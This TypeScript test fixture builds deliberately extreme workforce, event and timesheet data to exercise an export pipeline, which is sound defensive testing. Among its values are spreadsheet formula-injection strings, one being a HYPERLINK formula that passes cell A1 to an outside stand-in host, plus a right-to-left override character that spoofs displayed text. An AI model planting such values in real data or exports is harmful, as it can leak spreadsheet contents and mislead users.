import type { Exchange } from "#interface/operations.ts";
import {
  assignment,
  employeesReply,
  event,
  eventsReply,
  interviewReply,
  person,
  record,
  recordsReply,
  submission,
  weeklyReply,
} from "#test/builders/replies.ts";

import { writeCapture } from "#e2e/capture.ts";

/* A store that nobody would wish for: what is as long, as large and as odd as the interface allows, all at once. */

const SIXTY = "Wolfeschlegelsteinhausenbergerdorff-Featherstonehaugh Events";
const UNBROKEN = "Donaudampfschifffahrtselektrizitaetenhauptbetriebswerkbauten";
const ARABIC = "شركة المعارض والعروض الميدانية الدولية للتسويق المباشر والترويج";
const FORMULA = '=HYPERLINK("https://example.com/?x="&A1,"open the payroll")';
const OFFICE_NAMES: readonly string[] = [
  SIXTY,
  UNBROKEN,
  ARABIC,
  FORMULA,
  "\u202Egnitekram\u202C Reversed",
  "A",
];
const [SURNAME, GIVEN] = ["Wolfeschlegelsteinhausenbergerdorff", "Maximiliana Theodora Ann"];

export const EXTREME_ENTRY = "5900";
const DAYS = ["09", "10", "11", "12", "13", "14", "15"] as const;
const GREAT = 12_345_678;

const AMOUNTS = [GREAT, 0, 12, 98_765_432, 1_204, 40];
const amount = (place: number): number => AMOUNTS[place] ?? 0;

const named = OFFICE_NAMES.map((name, place) => ({ office: String(101 + place), name, place }));
/** Every administrator has counts of every stage: of eight digits, none at all, few, and more showed than booked. */
const countsOf = (share: number) =>
  Object.fromEntries(
    named.map(({ office, place }) => [String(9000 + place), { [office]: Math.round(amount(place) * share) }]),
  );

const people = named.flatMap(({ office, name, place }) =>
  Array.from({ length: 30 }, (_, nth) =>
    person(String(70_000_000 + place * 100 + nth), {
      officeid: office,
      officename: name,
      firstname: nth === 0 ? GIVEN : nth === 1 ? "عبد الرحمن" : `Ana ${nth}`,
      lastname: nth === 0 ? SURNAME : nth === 1 ? "بن محمد الأنصاري القرطبي" : nth === 2 ? "=1+2" : "Reed",
      email: nth === 0 ? `${"very.long.name.".repeat(3)}@${"sub.".repeat(4)}example.com` : "",
      phone: nth === 0 ? "+1 (555) 123-4567 ext. 89012345" : "5553669285",
      city: nth === 0 ? "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch" : "Boston",
      active: nth % 2,
      retire: 1,
      retireDate: "11/01/2026 12:00:00 AM",
    }),
  ),
);

const events = named.map(({ office, name, place }) =>
  event(
    40_000_000 + place,
    place === 1
      ? []
      : [0, 1].map((nth) =>
          assignment(String(70_000_000 + place * 100 + nth), {
            payoutOwner: { lname: SURNAME, fname: GIVEN },
            merchOwnerName: { lname: "بن محمد الأنصاري القرطبي", fname: "عبد الرحمن" },
            hubManager: { lname: SURNAME, fname: FORMULA },
            active: nth === 0,
            ownerAcknowledged: true,
            ownerAcnknowledgedDate: "11/01/2026 9:00:00 AM",
            officeId: Number(office),
          }),
        ),
    {
      retailerName: name,
      eventStatus: place === 2 ? "Cancelled by the retailer after the second confirmation call" : "Approved",
      location: {
        city: "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch",
        zipcode: "02108",
        state: "MA",
        marketId: "43",
        id: String(900 + place),
        clubNumber: "60030012",
      },
      eventGroupId: 30_000_012,
    },
  ),
);

const submissions = named.map(({ office, name, place }) =>
  submission(String(5900 + place), {
    officeId: office,
    officeName: name,
    ownerName: place % 2 === 0 ? `${GIVEN} ${SURNAME}` : ARABIC,
    totalMin: String(amount(place)),
    partner_submitted:
      place === 3 ? "submitted by the partner's own administrator on 11/16/2026 9:00:00 AM" : "",
    partner_locked: place === 4 ? "1" : "",
  }),
);

const records = DAYS.flatMap((day) => [
  record({
    personFirstName: GIVEN,
    personLastName: SURNAME,
    totalMin: GREAT,
    clockInUtc: `11/${day}/2026 2:00:00 PM`,
    clockOutUtc: `11/${day}/2026 6:00:00 PM`,
  }),
  record({
    personFirstName: "عبد الرحمن",
    personLastName: "بن محمد الأنصاري القرطبي",
    clockType: "LUNCHBREAK",
    clockInUtc: `11/${day}/2026 2:00:00 PM`,
    clockOutUtc: `11/${day}/2026 1:00:00 PM`,
  }),
  record({ personFirstName: FORMULA, personLastName: UNBROKEN, active: 0, totalMin: 98_765_432 }),
]);

const EXCHANGES: readonly Exchange[] = [
  employeesReply(people),
  eventsReply(events),
  weeklyReply(submissions),
  recordsReply(EXTREME_ENTRY, records),
  ...DAYS.map((day) =>
    interviewReply("101", `2026-11-${day}`, {
      name: Object.fromEntries(
        named.map(({ place }) => [
          String(9000 + place),
          [`${GIVEN} ${SURNAME}`, UNBROKEN, ARABIC, FORMULA][place] ?? "B",
        ]),
      ),
      accounts: Object.fromEntries(named.map(({ office, place }) => [String(9000 + place), office])),

      "1st": countsOf(1),
      "1stShowedUp": countsOf(0.9),
      "2nd": countsOf(0.8),
      "2ndShowedUp": countsOf(0.7),

      "3rd": countsOf(0.6),
      "3rdShowedUp": countsOf(0.61),
      fdt: countsOf(0.5),
      fdtShowedUp: countsOf(0.4),
      fds: countsOf(0.3),
      fdsShowedUp: countsOf(0.2),
    }),
  ),
];

/** Writes the capture that holds it, and gives its path. */
export const writeExtremeCapture = (file: string): Promise<void> => writeCapture(file, EXCHANGES);
